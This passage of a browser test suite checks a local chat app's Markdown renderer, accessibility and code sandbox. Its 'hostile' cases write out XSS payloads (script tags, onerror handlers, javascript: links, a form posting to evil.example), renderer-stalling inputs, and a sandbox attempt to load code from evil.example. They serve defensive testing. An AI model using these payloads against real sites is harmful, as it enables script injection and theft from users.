    let page: Page;
    before(async () => {
      server.fault = (path) => (path.includes('/chunks/') ? { stall: 10_000 } : undefined); // nothing that takes the processor
      tab = await visit('', plain);
      page = tab.page;
      await page.locator('.numbers', { hasText: 'Loading the weights' }).waitFor({ timeout });
      await page.evaluate(async (url) => {
        globalThis.harness = (await import(url)) as typeof harness;
      }, `${tab.url}some/where/test/harness.js`);
    });
    after(async () => {
      server.fault = () => undefined;
      await leave(tab);
    });

    const everything = file([
      { role: 'user', content: 'Show all' },
      { role: 'assistant', content: '', reasoning: 'Let me call.', reasoningMs: 800, reasoningTokens: 4, finish: 'tool_calls', calls: [{ id: 'a', type: 'function', function: { name: 'calculator', arguments: '{"expression":"1+1"}' } }] },
      { role: 'tool', content: '2', callID: 'a' },
      { role: 'assistant', content: '# Title\n\nText with `code`, **bold**, a [link](https://example.org) and $x^2$.\n\n- [x] done\n- [ ] to do\n\n| a | b |\n| --- | ---: |\n| 1 | 2 |\n\n> quote\n\n```python\nprint("hi")  # hi\n```\n\n$$\\int_0^1 x\\,dx$$', finish: 'stop', stats: { promptTokens: 9, tokens: 5, firstTokenMs: 10, tokensPerSecond: 3 } },
      { role: 'user', content: 'And this?' },
      { role: 'assistant', content: '', finish: 'tool_calls', calls: [{ id: 'b', type: 'function', function: { name: 'get_weather', arguments: '{}' } }] },
    ], { tools: ['calculator'] });

    test('no state of the page has an accessibility violation', { timeout }, async () => {
      await checkAllLooks(page, 'greeting and progress');
      const late = () => page.evaluate(() => performance.getEntriesByType('resource').filter((e) => /\/(math-worker|highlight)-/.test(e.name)).length);
      assert.equal(await late(), 0, 'what draws formulas and colours code is loaded when it is needed');
      await importFile(page, 'x.json', everything);
      await page.locator('.formula.display math').waitFor();
      await page.locator('.hljs-string').waitFor();
      assert.equal(await late(), 2);
      await page.locator('.reasoning summary').first().click();
      await checkAllLooks(page, 'conversation');
      await page.getByRole('button', { name: 'Settings' }).click();
      for (const name of ['Replies', 'Tools', 'Format', 'App']) {
        await page.getByRole('tab', { name }).click();
        await checkAllLooks(page, `settings ${name}`);
      }
      await close(page);
      await page.locator('#model-button').click();
      await page.getByRole('button', { name: 'Switch to gpt-oss-20b' }).or(page.getByRole('button', { name: 'Open gpt-oss-20b' })).waitFor();
      await page.getByLabel('Model URL').fill(`${tab.url}some/where/nano/`);
      await page.getByRole('button', { name: 'Check' }).click();
      await page.locator('.verdict dl').waitFor();
      await checkAllLooks(page, 'models');
      await close(page);
      await page.setViewportSize({ width: 380, height: 760 });
      await checkAccessibility(page, 'narrow');
      await page.getByRole('button', { name: 'Show conversations' }).click();
      await page.locator('#sidebar.open').waitFor();
      await checkAccessibility(page, 'narrow, conversations');
      await page.keyboard.press('Escape');
      assert.equal(await page.evaluate(() => document.activeElement?.id), 'menu');
      assert.equal(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), true, 'nothing is wider than a phone');
      await page.setViewportSize({ width: 1280, height: 800 });
    });

    test('Markdown is rendered: formulas as MathML, code coloured, tables that scroll', async () => {
      const answer = page.locator('.assistant').nth(1);
      assert.equal(await answer.locator('h1').innerText(), 'Title');
      assert.equal(await answer.locator('math').count(), 2);
      assert.equal(await answer.locator('.hljs-comment').innerText(), '# hi');
      assert.equal(await answer.locator('a').getAttribute('rel'), 'noopener noreferrer nofollow');
      assert.equal(await answer.locator('input[type=checkbox]:disabled').count(), 2);
    });

    test('the keyboard does everything', { timeout }, async () => {
      await page.keyboard.press('/');
      assert.equal(await page.evaluate(() => document.activeElement?.id), 'text');
      // An Enter that ends a composition does not send; one with Shift begins a line.
      await box(page).fill('かな');
      await box(page).dispatchEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true });
      assert.equal(await box(page).inputValue(), 'かな');
      await page.keyboard.press('Shift+Enter');
      assert.equal(await box(page).inputValue(), 'かな\n');
      await box(page).fill('');
      await page.keyboard.press('ArrowUp');
      await page.getByRole('textbox', { name: 'Edit message' }).waitFor();
      await page.keyboard.press('Escape');
      assert.equal(await page.getByLabel('Edit message').first().evaluate((e) => e.tagName), 'BUTTON');
      await page.getByRole('button', { name: 'Settings' }).focus();
      await page.keyboard.press('Enter');
      await page.getByRole('tab', { name: 'Replies' }).focus();
      await page.keyboard.press('ArrowRight');
      await page.locator('#page-tools').waitFor();
      await page.keyboard.press('Escape');
      await page.locator('#panel').waitFor({ state: 'hidden' });
      assert.equal(await page.evaluate(() => document.activeElement?.getAttribute('aria-label')), 'Settings');
      await page.keyboard.press('Control+Shift+O');
      await page.getByText('What would you like to know?').waitFor();
      // The first stop leads past the sidebar.
      assert.equal(await page.evaluate(() => document.querySelector('a, button, input, select, textarea, [tabindex]')?.className), 'skip');
      await page.locator('.skip').focus();
      await page.keyboard.press('Enter');
      assert.equal(await page.evaluate(() => document.activeElement?.id), 'text');
    });

    test('colours follow the system or the visitor, and nothing moves for those who want it so', async () => {
      const paper = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
      await page.emulateMedia({ colorScheme: 'light', reducedMotion: 'reduce' });
      const light = await paper();
      await page.emulateMedia({ colorScheme: 'dark', reducedMotion: 'reduce' });
      const dark = await paper();
      assert.notEqual(light, dark);
      await settings(page, 'App');
      await page.getByLabel('Theme').selectOption('light');
      assert.equal(await paper(), light);
      await page.getByLabel('Theme').selectOption('system');
      await close(page);
      assert.equal(await page.locator('#loading progress').evaluate((e) => getComputedStyle(e).animationName), 'none');
      await page.emulateMedia({ colorScheme: 'light', reducedMotion: 'no-preference' });
    });

    /** Has the renderer show a text as it grows; returns what became of it. */
    const stream = (text: string, parts: number, lastFormula?: string) => page.evaluate(async ({ text, parts, lastFormula }) => {
      const view = new globalThis.harness.MarkdownView();
      const holder = document.getElementById('thread')!;
      holder.replaceChildren(view.element);
      let longest = 0, moved = 0, replaced = 0;
      let first: Element | null = null, top = 0;
      const begin = performance.now();
      for (let i = 1; i <= parts; i++) {
        view.update(text.slice(0, Math.ceil((text.length * i) / parts)));
        const before = performance.now();
        await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
        longest = Math.max(longest, performance.now() - before);
        const block = view.element.children[0] ?? null;
        if (view.element.children.length > 2) {
          first ??= block;
          replaced += block === first ? 0 : 1;
          const now = (view.element.children[1] as HTMLElement).offsetTop;
          top ||= now;
          moved += now === top ? 0 : 1;
        }
      }
      await view.finish(text);
      while (lastFormula && ![...view.element.querySelectorAll('math')].some((m) => m.getAttribute('aria-label') === lastFormula)) {
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
      const took = performance.now() - begin;
      return { took, longest, moved, replaced, html: view.element.innerHTML.slice(0, 20_000), text: view.element.textContent!, blocks: view.element.children.length, scripts: view.element.querySelectorAll('script, iframe, img, style, object, form, [onclick], [onerror], [style]').length, links: [...view.element.querySelectorAll('a')].map((a) => a.getAttribute('href')) };
    }, { text, parts, lastFormula });

    test('what is written stays where it is while more comes', { timeout }, async () => {
      const text = Array.from({ length: 40 }, (_, i) => `Paragraph ${i} with **bold** and \`code\`.\n\n- a\n- b`).join('\n\n');
      const got = await stream(text, 60);
      assert.equal(got.replaced, 0);
      assert.equal(got.moved, 0);
      assert.equal(got.blocks, 80);
      const whole = await stream(text, 1);
      assert.equal(got.html, whole.html, 'what is streamed looks like what is there at once');
    });

    const hostile: [name: string, text: string, parts: number, lastFormula?: string][] = [
      ['scripts and handlers', '<script>globalThis.pwned = 1</script><img src=x onerror="globalThis.pwned = 1"><svg onload="globalThis.pwned=1"><a href="javascript:globalThis.pwned=1">x</a> <iframe srcdoc="<script>parent.pwned=1</script>"></iframe><style>body{display:none}</style><form action="https://evil.example"><button>x</button></form>\n\n[click](javascript:globalThis.pwned=1) [data](data:text/html,<script>alert(1)</script>) ![x](https://evil.example/track.png) <div style="position:fixed;inset:0" class="sheet" id="text">cover</div> <math><mtext></mtext><mglyph><style><img src=x onerror="globalThis.pwned=1">', 20],
      ['formulas', '$\\href{javascript:globalThis.pwned=1}{x}$ $\\htmlData{a=b}{x}$ $$\\def\\a{\\a\\a}\\a$$ $\\rule{9999em}{9999em}$ $\\color{red}{x}$', 5, '\\color{red}{x}'],
      ['a line of 1 MB', 'x'.repeat(1_000_000), 50],
      ['words of 1 MB in a line', 'word '.repeat(200_000), 50],
      ['a table of 20,000 rows', `| a | b |\n| --- | --- |\n${'| 1 | 2 |\n'.repeat(20_000)}`, 20],
      ['code of 1 MB', `\`\`\`js\n${'const x = 1; // comment\n'.repeat(40_000)}\`\`\`\n\nafter`, 20],
      ['open brackets', '['.repeat(100_000), 10],
      ['emphasis without end', '*a **b '.repeat(15_000), 10],
      ['nested quotes', `${'> '.repeat(10_000)}x`, 5],
      ['nested lists', Array.from({ length: 300 }, (_, i) => `${' '.repeat(2 * i)}- x`).join('\n'), 5],
      ['ticks and dollars', '`$'.repeat(40_000), 10],
      ['a fence that never ends', `\`\`\`python\n${'print(1)\n'.repeat(3000)}`, 20],
      ['many blank lines', '\n'.repeat(200_000) + 'end', 5],
      ['broken HTML', '<div><p><table><tr><td><'.repeat(3000), 10],
      ['links and definitions', '[a]: https://example.org\n\n[a] '.repeat(3000), 10],
    ];
    for (const [name, text, parts, lastFormula] of hostile) {
      test(`hostile output: ${name}`, { timeout }, async () => {
        const got = await stream(text, parts, lastFormula);
        assert.equal(got.scripts, 0, got.html);
        assert.equal(await page.evaluate(() => 'pwned' in globalThis), false);
        assert.deepEqual(got.links.filter((l) => l !== null && !/^(https?:|mailto:|#)/.test(l)), []);
        // On a quiet machine these take a hundredth; the bounds are for what would take many minutes, also while others compute.
        assert.ok(got.took < 300_000, `it took ${got.took.toFixed(0)} ms`);
        assert.ok(got.longest < 60_000, `a frame took ${got.longest.toFixed(0)} ms`);
        if (/1 MB|rows|brackets/.test(name)) {
          assert.ok(got.text.length > text.length * 0.6, 'all of it is there');
        }
      });
    }

    test('hostile output: characters that turn the direction of text', { timeout }, async () => {
      const got = await stream('good \u202etxet live\u202c end\n\n```js\nif (admin\u202e \u2066) {}\n```\n\n`a\u202eb`\n\nمرحبا بالعالم', 3);
      assert.doesNotMatch(got.text, /[\u202a-\u202e\u2066-\u2069]/);
      assert.match(got.text, /admin\[U\+202E\]/);
      assert.match(got.text, /a\[U\+202E\]b/);
      const direction = await page.locator('#thread .block').last().evaluate((e) => getComputedStyle(e).direction);
      assert.equal(direction, 'rtl');
    });

    test('the sandbox runs programs and lets nothing out', { timeout }, async () => {
      const run = (code: string) => page.evaluate((code) => globalThis.harness.runInSandbox(code, new AbortController().signal), code);
      assert.equal(await run('console.log("hi", {a: 1}); 6 * 7'), 'hi {"a":1}\n42');
      assert.equal(await run('new Promise((r) => setTimeout(() => r("later"), 50))'), 'later');
      assert.match(await run('throw new Error("no")'), /^Error: Error: no/);
      assert.match(await run('syntax error here'), /SyntaxError/);
      assert.match(await run(`fetch(${JSON.stringify(server.url)}).then(() => "out", (e) => "kept in")`), /kept in/);
      assert.match(await run('typeof document + typeof localStorage + typeof parent'), /undefined/);
      assert.match(await run('try { importScripts("https://evil.example/x.js"); "out" } catch { "kept in" }'), /kept in/);
      assert.match(await run('indexedDB.open("gossamer-chat"); "out"').catch((e: Error) => e.message), /Error|denied/);
      assert.match(await run('for (;;) {}'), /did not end within 5 seconds/);
      assert.equal(await page.locator('iframe').count(), 0);
    });
  });

  test('the benchmark measures, and gives JSON and a plot', { timeout: 900_000 }, async () => {
    const tab = await visit('bench.html?depths=64,128&runs=1&tokens=16');
    const { page } = tab;
    await page.getByRole('button', { name: 'Measure' }).click();
    await page.locator('.plot').first().waitFor({ timeout: 880_000 });
    await checkAllLooks(page, 'benchmark');
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Save JSON' }).click()]);
    const report = JSON.parse(readFileSync(await download.path(), 'utf8'));
    assert.equal(report.backend, 'webgpu');
    for (const value of [report.load.seconds, report.copy_bytes_per_second, report.time_to_first_token_ms, report.decode[0].tokens_per_second.mean,
      report.prefill[0].tokens_per_second.mean, report.decode[0].gb_per_second, report.decode[0].of_copy_bandwidth]) {
      assert.ok(value > 0 && Number.isFinite(value), JSON.stringify(report));
    }
    const [plot] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Save plot' }).click()]);
    assert.match(readFileSync(await plot.path(), 'utf8'), /^<svg xmlns="http:\/\/www.w3.org\/2000\/svg".*tokens in the prompt/s);
    await leave(tab);
  });
});
